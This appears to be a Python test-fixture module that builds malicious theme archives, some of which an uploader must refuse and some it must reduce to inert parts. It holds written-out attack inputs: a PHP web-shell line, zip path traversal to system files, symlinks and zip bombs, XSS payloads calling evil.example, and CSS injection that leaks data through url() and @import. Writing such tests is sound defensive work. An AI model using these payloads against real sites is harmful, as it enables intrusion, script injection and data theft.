"""Themes that mean harm: how each is built. Whoever reads one either refuses it or takes what does nothing (threat T32)."""

from __future__ import annotations

import io
import json
import stat
import warnings
import zipfile
from collections.abc import Mapping
from typing import Any

EVIL = "https://evil.example"
SCRIPT = f"<script>fetch('{EVIL}')</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><image href="{EVIL}/x.png"/></svg>'.encode()
STYLE = b"/*\nTheme Name: Malo\nAuthor: Nadie\nLicense: MIT\nVersion: 1.0\n*/\n"
OUT_OF_A_RULE = f"red;}}body{{background:url({EVIL}/a)"


def zipped(files: Mapping[str, bytes | str]) -> bytes:
    """A .zip with these files, in this order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def theme(more: Mapping[str, bytes | str] | None = None, **parts: Any) -> bytes:
    """A theme that is well but for `parts` of its theme.json and `more` files."""
    return zipped({"style.css": STYLE, "theme.json": json.dumps({"version": 3, **parts}), **(more or {})})


def styles(**said: Any) -> bytes:
    return theme(styles=said)


def text_colour(value: str) -> bytes:
    return styles(color={"text": value})


def font(source: Any, family: str = "Malo", **more: Any) -> bytes:
    face = {"fontFamily": family, "src": source, **more}
    return theme(
        {"assets/fonts/a.woff2": b"<html>" + SCRIPT.encode()},
        settings={"typography": {"fontFamilies": [{"slug": "malo", "name": "Malo", "fontFamily": family, "fontFace": [face]}]}},
        styles={"typography": {"fontFamily": "var:preset|font-family|malo"}},
    )


def palette(slug: str, colour: str = "#123456") -> bytes:
    return theme(
        settings={"color": {"palette": [{"slug": slug, "name": "x", "color": colour}]}},
        styles={"color": {"text": f"var(--wp--preset--color--{slug})"}},
    )


def _special(name: str, *, attributes: int = 0, flags: int = 0, method: int = zipfile.ZIP_DEFLATED, content: bytes = b"{}") -> bytes:
    """A .zip with one unusual entry beside a good theme."""
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("theme.json", '{"version": 3}')
            entry = zipfile.ZipInfo(name)
            entry.external_attr = attributes
            entry.compress_type = method
            archive.writestr(entry, content)
            entry.flag_bits |= flags
    return out.getvalue()


REFUSED: dict[str, bytes] = {
    "no zip at all": b"<?php system($_GET['x']);",
    "packed too large": b"PK\x03\x04" + b"\0" * (9 * 2**20),
    "one file that unfolds to 20 MB": zipped({"theme.json": '{"version": 3}', "assets/a.png": b"\0" * (20 * 2**20)}),
    "many files that unfold to 39 MB": zipped(
        {"theme.json": '{"version": 3}', **{f"assets/{n}.png": b"\0" * (3 * 2**20) for n in range(13)}}
    ),
    "a path that leads out": _special("../../../etc/cron.d/evil"),
    "a path in the middle that leads out": _special("assets/../../x.json"),
    "an absolute path": _special("/etc/passwd"),
    "a path of Windows": _special("C:evil.json"),
    "backslashes": _special("assets\\..\\..\\evil.json"),
    "a link": _special("assets/fonts/link.woff2", attributes=(stat.S_IFLNK | 0o777) << 16, content=b"/etc/passwd"),
    "a device": _special("assets/dev", attributes=(stat.S_IFCHR | 0o666) << 16),
    "the same name twice": _special("theme.json", content=b'{"version": 3, "title": "another"}'),
    "the same name in capitals": _special("THEME.JSON"),
    "encrypted": _special("assets/a.json", flags=0x1),
    "packed otherwise": _special("assets/a.json", method=zipfile.ZIP_LZMA),
    "a thousand files": zipped({"theme.json": '{"version": 3}', **{f"a/{n}.txt": "x" for n in range(1_000)}}),
    "no theme.json": zipped({"index.php": "<?php ?>"}),
    "theme.json that is HTML": zipped({"theme.json": SCRIPT}),
    "JSON ten thousand deep": zipped({"theme.json": '{"version": 3, "styles": ' + "[" * 10_000 + "]" * 10_000 + "}"}),
    "numbers that are none": zipped({"theme.json": '{"version": 3, "x": NaN}'}),
    "a key twice": zipped({"theme.json": '{"version": 3, "version": 3}'}),
    "a version as text": zipped({"theme.json": '{"version": "3"}'}),
    "theme.json of 2 MB": zipped({"theme.json": '{"version": 3, "title": "' + "x" * (2 * 2**20) + '"}'}),
}
"""Nothing of these is taken."""

INERT: dict[str, bytes] = {
    "an address as a colour": text_colour(f"url({EVIL}/a)"),
    "out of the rule": text_colour(OUT_OF_A_RULE),
    "escapes": text_colour(f"\\75 rl({EVIL}/a)"),
    "an expression": text_colour("expression(alert(1))"),
    "an attribute of the page": text_colour("attr(data-secret)"),
    "out of a style element": text_colour(f"red</style>{SCRIPT}"),
    "out of a comment": text_colour(f"red/**/;*/}}*{{background:url({EVIL})"),
    "important": text_colour("red !important"),
    "a variable with what it lacks": text_colour(f"var(--wp--x, url({EVIL}/a))"),
    "a variable of ours": text_colour("var(--secret, red)"),
    "an image set": styles(color={"gradient": f"image-set('{EVIL}/a' 1x)"}),
    "an image inside of a gradient": styles(color={"gradient": f"linear-gradient(url({EVIL}/a), red)"}),
    "an element as an image": styles(color={"gradient": "element(#main)"}),
    "rules of its own": styles(css=f'input[value^="a"]{{background:url({EVIL}/a)}}@import "{EVIL}/b.css";'),
    "rules of its own in a block": styles(blocks={"core/quote": {"css": f"&::after{{content:url({EVIL}/a)}}"}}),
    "rules in style.css": theme({"style.css": STYLE + f'@import "{EVIL}/a.css";body{{display:none}}'.encode()}),
    "a selector as a block": styles(blocks={f"core/quote{{}}*{{background:url({EVIL})}}": {"color": {"text": "red"}}}),
    "a selector as an element": styles(elements={f"a{{}}*{{background:url({EVIL})}}": {"color": {"text": "red"}}}),
    "a rule as a name": palette(f"x:red;}}*{{background:url({EVIL})}}"),
    "a prototype as a name": palette("__proto__", "url(x)"),
    "a font from elsewhere": font(f"{EVIL}/a.woff2"),
    "a font from elsewhere, without a scheme": font("//evil.example/a.woff2"),
    "a font in the address": font("data:font/woff2;base64,AAAA"),
    "a font that leads out": font("file:./../../../../etc/passwd"),
    "a font that is HTML": font("file:./assets/fonts/a.woff2"),
    "a rule as a font": font("file:./assets/fonts/a.woff2", f'x";}}@import "{EVIL}'),
    "a rule as a range": font("file:./assets/fonts/a.woff2", unicodeRange=f"U+0-FF;src:url({EVIL})"),
    "a background from elsewhere": styles(background={"backgroundImage": {"url": f"{EVIL}/a.png"}}),
    "a background that leads out": styles(background={"backgroundImage": {"url": "file:./../../secret.png"}}),
    "a background that is code": theme({"assets/a.svg": SVG}, styles={"background": {"backgroundImage": {"url": "file:./assets/a.svg"}}}),
    "a picture that is HTML": theme(
        {"assets/a.png": b"GIF89a/*" + SCRIPT.encode()}, styles={"background": {"backgroundImage": {"url": "file:./assets/a.png"}}}
    ),
    "an address in a property of its own": theme(
        settings={"custom": {"x": f"url({EVIL}/a)", "y": {"z": f"1px;}}*{{background:url({EVIL})}}"}}},
        styles={"color": {"background": "var:custom|x"}},
    ),
    "properties that name each other": theme(
        settings={"custom": {"a": "var(--wp--custom--b)", "b": "var(--wp--custom--a)"}}, styles={"color": {"text": "var:custom|a"}}
    ),
    "a reference into nowhere": styles(color={"text": {"ref": "__class__.__init__.__globals__"}}),
    "a cover over the whole page": styles(position={"type": "fixed"}, dimensions={"minHeight": "100000vh"}, zIndex="9999"),
    "pulled over what is above": styles(spacing={"margin": {"top": "-2000px"}}),
    "pulled over by counting": styles(spacing={"margin": {"top": "1e99px"}}),
    "words too small to read": styles(typography={"fontSize": "0.1px", "lineHeight": 0}),
    "words too small by counting": styles(typography={"fontSize": "clamp(0px, 0vw, 1px)"}),
    "words as large as a wall": styles(typography={"fontSize": "9999rem"}),
    "numbers beyond all": styles(border={"radius": "1e308px", "width": "99999999999999999999px"}),
    "ten thousand colours": theme(settings={"color": {"palette": [{"slug": f"c{n}", "name": "x", "color": "#fff"} for n in range(10_000)]}}),
    "a variation that is worse": theme(
        {"styles/dark.json": json.dumps({"version": 3, "styles": {"css": f"@import '{EVIL}'", "color": {"text": OUT_OF_A_RULE}}})}
    ),
    "code of others": theme(
        {"functions.php": "<?php system('id');", "assets/a.js": f"fetch('{EVIL}')", "templates/index.html": SCRIPT, "parts/header.html": SCRIPT}
    ),
    "its name is code": theme({"style.css": f"/*\nTheme Name: {SCRIPT}\nAuthor: \"><img src=x onerror=alert(1)>\nLicense: MIT\n*/"}, title=SCRIPT),
    "its description is code": theme(description=SCRIPT, settings={"custom": {"oportuno": {"about": {"es": SCRIPT, "en": SCRIPT}}}}),
    "a form that is none": theme(settings={"custom": {"oportuno": {"header": "x\" onload=\"alert(1)", "cards": ["covers"], "paper": {"a": 1}}}}),
}  # fmt: skip
"""Of these is taken what does nothing."""
